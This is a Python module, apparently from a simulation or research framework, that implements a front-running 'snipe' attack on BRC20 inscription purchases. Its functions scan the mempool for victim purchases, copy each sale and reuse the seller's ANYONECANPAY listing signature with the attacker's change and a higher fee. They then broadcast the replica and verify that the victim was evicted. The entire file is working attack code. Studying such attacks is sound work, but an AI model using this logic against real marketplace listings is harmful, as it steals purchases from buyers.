"""Monitor the mempool, replicate purchases at a higher fee and check the result."""

import logging
from dataclasses import replace
from typing import List, Optional, Sequence, Tuple

from ..core.chain import Chain
from ..core.indexer import TokenLedger
from ..core.ledger import Block
from ..core.mempool import Mempool, Rejected, format_fee_rate
from ..core.psbt import (
    Psbt,
    add_partial_signature,
    create_psbt,
    estimated_vsize,
    finalize_psbt,
    sign_psbt,
)
from ..core.signing import SighashMode, SignatureRecord, SigningError, SigningKey
from ..core.inscription import extract_inscriptions
from ..core.tx import OutPoint, TxId, TxOutput
from . import (
    AttackError,
    AttackOutcome,
    AttackRejected,
    FeeStrategy,
    InsufficientFunds,
    NoVictim,
    VictimObservation,
)

logger = logging.getLogger(__name__)

Funding = Tuple[OutPoint, TxOutput]


def scan_mempool(pool: Mempool, exclude_payer: Optional[str] = None) -> List[VictimObservation]:
    """One observation per pooled transaction carrying a BRC20 transfer.

    Args:
        pool: Mempool to inspect
        exclude_payer: Skip purchases funded by this address (the bot's own)

    Returns:
        Observations in arrival order
    """
    observations = []
    for entry in pool:
        tx = entry.tx
        transfers = [(i, m) for i, m in extract_inscriptions(tx) if m.op == "transfer"]
        if not transfers or not tx.witness or tx.outputs[0].is_data:
            continue
        anchor = pool.utxos.lookup(tx.inputs[0].outpoint)
        if anchor is None:
            continue
        seller = tx.outputs[0].lock
        payer = None
        for outpoint in tx.outpoints[1:]:
            spent = pool.utxos.lookup(outpoint)
            if spent is not None and spent.lock != seller:
                payer = spent.lock
                break
        if exclude_payer is not None and payer == exclude_payer:
            continue
        index, meta = transfers[0]
        observations.append(
            VictimObservation(
                victim_txid=entry.txid,
                victim_inputs=tx.outpoints,
                seller_output=tx.outputs[0],
                inscription=meta,
                victim_fee=entry.fee,
                victim_vsize=entry.vsize,
                listing_input=(tx.inputs[0].outpoint, anchor.output),
                listing_signature=tx.witness[0],
                data_output=tx.outputs[index],
                lock_outputs=tuple(o for o in tx.outputs if o.is_lock_commitment),
                reveal=tx.inputs[0].unlock,
                payer=payer,
            )
        )
    logger.debug("Mempool scan found %d transfer purchases", len(observations))
    return observations


def find_victim(observations: Sequence[VictimObservation], txid: Optional[TxId] = None) -> VictimObservation:
    """Pick the observation for `txid`, or the earliest one.

    Raises:
        NoVictim: If nothing matches
    """
    for observation in observations:
        if txid is None or observation.victim_txid == txid:
            return observation
    raise NoVictim("No matching purchase in the mempool" if txid is None else f"Victim {txid.hex()} not in mempool")


def craft_snipe(
    observation: VictimObservation,
    funds: Sequence[Funding],
    strategy: FeeStrategy,
    change_address: str,
    disjoint: bool = False,
) -> Psbt:
    """Replicate the victim's sale with the attacker's change and fee.

    The seller payment and inscription outputs are copied verbatim. Unless
    `disjoint`, the listing input and the seller's signature are reused, so
    the replica conflicts with the victim.

    Raises:
        InsufficientFunds: If funds cannot cover the seller price and fee
        AttackError: If the listing signature cannot be reused
    """
    inputs: List[Funding] = list(funds)
    outputs = [observation.seller_output, TxOutput.pay(change_address, 0), observation.data_output]
    if not disjoint:
        inputs.insert(0, observation.listing_input)
        outputs.extend(observation.lock_outputs)

    available = sum(out.amount for _, out in inputs)
    budget = available - observation.seller_output.amount
    if not funds or budget < 0:
        raise InsufficientFunds(
            f"Funds {available} below seller price {observation.seller_output.amount}", strategy.name
        )

    draft = create_psbt(inputs, outputs)
    if not disjoint and observation.reveal:
        draft = draft.with_final_unlock(0, observation.reveal)
    fee = strategy.target_fee(observation, estimated_vsize(draft), budget)
    change = budget - fee
    if change < 0:
        raise InsufficientFunds(
            f"Funds {available} cannot cover price {observation.seller_output.amount} plus fee {fee}",
            strategy.name,
        )
    psbt = draft.with_output(1, TxOutput.pay(change_address, change))

    if not disjoint:
        try:
            if SignatureRecord.decode(observation.listing_signature).mode != SighashMode.SINGLE_ANYONECANPAY:
                raise AttackError("Listing signature commits to the whole purchase", strategy.name)
            psbt = add_partial_signature(psbt, 0, observation.listing_signature)
        except SigningError as e:
            raise AttackError(f"Unusable listing signature: {e}", strategy.name)

    logger.info(
        "Crafted %s snipe on %s: fee=%d change=%d disjoint=%s",
        strategy.name, observation.victim_txid.hex()[:16], fee, change, disjoint,
    )
    return psbt


def execute_attack(
    observation: VictimObservation,
    funds: Sequence[Funding],
    strategy: FeeStrategy,
    pool: Mempool,
    key: SigningKey,
    disjoint: bool = False,
) -> AttackOutcome:
    """Craft, sign, finalize and broadcast a snipe.

    Raises:
        AttackRejected: If the mempool refuses the replica
    """
    psbt = craft_snipe(observation, funds, strategy, key.address, disjoint)
    psbt, _ = sign_psbt(psbt, key)
    tx = finalize_psbt(psbt)
    outcome = AttackOutcome(
        attack_txid=tx.txid,
        attack_fee=psbt.fee(),
        attack_vsize=estimated_vsize(psbt),
        victim_txid=observation.victim_txid,
        tick=observation.inscription.tick.lower(),
        amount=observation.inscription.amount,
    )
    result = pool.submit(tx)
    if isinstance(result, Rejected):
        raise AttackRejected(
            f"Attack {tx.txid.hex()[:16]} rejected: {result.reason.value}",
            outcome,
            result.reason.value,
            strategy.name,
        )
    logger.info(
        "Broadcast snipe %s fee=%d rate=%s (%s)",
        tx.txid.hex()[:16], outcome.attack_fee, format_fee_rate(outcome.attack_fee_rate), result.status,
    )
    return outcome


def verify_success(
    outcome: AttackOutcome,
    block: Block,
    chain: Chain,
    pool: Mempool,
    ledger: TokenLedger,
    attacker_address: str,
) -> AttackOutcome:
    """Fill the post-mining fields of an outcome.

    `block` must already be connected to `chain`. The victim counts as evicted
    only if it left the pool without being mined in this or any earlier block.
    """
    included = block.contains(outcome.attack_txid)
    victim_evicted = outcome.victim_txid not in pool and not chain.is_confirmed(outcome.victim_txid)
    received = ledger.balance(attacker_address, outcome.tick) - outcome.tokens_before
    settled = included or outcome.attack_txid not in pool
    return replace(
        outcome,
        included=included,
        victim_evicted=victim_evicted,
        tokens_received=received,
        settled=settled,
    )
